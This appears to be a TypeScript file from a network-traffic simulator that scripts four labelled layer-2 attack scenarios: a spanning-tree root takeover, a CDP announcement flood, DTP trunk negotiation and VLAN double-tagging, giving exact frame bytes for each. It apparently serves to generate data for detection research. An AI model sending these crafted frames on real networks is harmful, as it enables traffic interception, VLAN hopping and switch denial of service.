import { bridgeGroup, rootMessage } from '../behaviour/switch-frames.ts'
import { macBytes } from '../network/addresses.ts'
import { EtherType } from '../packet-builder/ethernet.ts'
import { icmpEcho } from '../packet-builder/icmp.ts'
import { ipv4Packet } from '../packet-builder/ipv4.ts'
import type { Scenario } from './scenario.ts'

const ciscoGroup = macBytes('01:00:0c:cc:cc:cc')

export const rootTakeover: Scenario = {
  name: 'root_takeover',
  description: 'A host says by spanning tree that it is the root, with the best priority there is.',
  kind: 'attack',
  technique: 'T1557',
  durationSeconds: 120,
  *play(stage) {
    const { random, office, wire } = stage
    const attacker = office.intruder()
    const count = random.integer(8, 20)
    const details = { messages: count }
    const victims = [stage.network.gateway] // What leaves the network would take another way.
    const start = { kind: 'root_takeover', attacker: attacker.macAddress, victims, details }
    const bridgeId = Buffer.concat([Buffer.alloc(2), attacker.mac])
    const message = rootMessage({ kind: [0, 0, 0], bridgeId, port: 1 })
    const run = function* () {
      for (let sent = 0; sent < count; sent++) {
        wire.ethernet(attacker, bridgeGroup, message.length, message)
        yield 2e6
      }
    }
    yield* stage.attack(start, run())
  },
}

export const announcementFlood: Scenario = {
  name: 'announcement_flood',
  description: 'Thousands of invented devices announce themselves by CDP, as yersinia lets them.',
  kind: 'attack',
  technique: 'T1499.001',
  durationSeconds: 90,
  *play(stage) {
    const { random, wire, network } = stage
    const perSecond = Math.round(random.between(200, 600))
    const count = perSecond * random.integer(4, 9)
    const details = { per_second: perSecond, devices: count }
    const victims = [network.gateway] // It keeps a neighbour for each, until its memory is full.
    const start = { kind: 'announcement_flood', attacker: 'unknown', victims, details }
    const run = function* () {
      for (let sent = 0; sent < count; sent++) {
        const name = Buffer.from(random.text(8))
        // LLC with SNAP, version 1 and its time to live; then the name of the device.
        const message = Buffer.concat([
          Buffer.from([0xaa, 0xaa, 3, 0, 0, 0x0c, 0x20, 0, 1, 255, 0, 0, 0, 1, 0, 12]),
          name,
        ])
        const mac = random.bytes(6)
        mac[0] = (mac[0] as number) & 0xfc
        wire.ethernet({ mac }, ciscoGroup, message.length, message)
        yield random.exponential(1e6 / perSecond)
      }
    }
    yield* stage.attack(start, run())
  },
}

export const trunkNegotiation: Scenario = {
  name: 'trunk_negotiation',
  description: 'A host asks its switch for a trunk by DTP, which would show it every VLAN.',
  kind: 'attack',
  technique: 'T1557',
  durationSeconds: 120,
  *play(stage) {
    const { office, wire, network, random } = stage
    const attacker = office.intruder()
    const count = random.integer(2, 5)
    const victims = [network.gateway]
    const details = { messages: count }
    const start = { kind: 'trunk_negotiation', attacker: attacker.macAddress, victims, details }
    // LLC with SNAP and the version; domain, status (desirable), type, and the neighbour's address.
    const message = Buffer.concat([
      Buffer.from('aaaa0300000c2004010001000500000200050300030005a50004000a', 'hex'),
      attacker.mac,
    ])
    const run = function* () {
      yield* network.reach(attacker, network.gateway)
      for (let sent = 0; sent < count; sent++) {
        wire.ethernet(attacker, ciscoGroup, message.length, message)
        yield random.between(5, 12) * 1e6
      }
    }
    yield* stage.attack(start, run())
  },
}

export const doubleTag: Scenario = {
  name: 'double_tag',
  description: 'Pings with two VLAN tags, of which the first switch takes one off.',
  kind: 'attack',
  technique: 'T1557',
  durationSeconds: 120,
  *play(stage) {
    const { office, wire, random } = stage
    const attacker = office.intruder()
    const victim = random.pick([office.machines.webServer, office.machines.database])
    const count = random.integer(3, 12)
    const details = { packets: count, vlan: 20 }
    const start = { kind: 'double_tag', attacker: attacker.macAddress, victims: [victim], details }
    const run = function* () {
      for (let sequence = 1; sequence <= count; sequence++) {
        const ends = { source: attacker.addressBytes, destination: victim.addressBytes }
        const header = { ...ends, protocol: 1, timeToLive: 64, identification: sequence }
        const echo = icmpEcho({ type: 8, identifier: 66, sequence }, Buffer.from('from here'))
        // The native VLAN, and behind it the one that is meant.
        const tags = Buffer.from('0001810000140800', 'hex')
        const packet = Buffer.concat([tags, ipv4Packet(header, echo)])
        wire.ethernet(attacker, victim.mac, EtherType.vlan, packet)
        yield random.between(0.5, 2) * 1e6
      }
    }
    yield* stage.attack(start, run())
  },
}
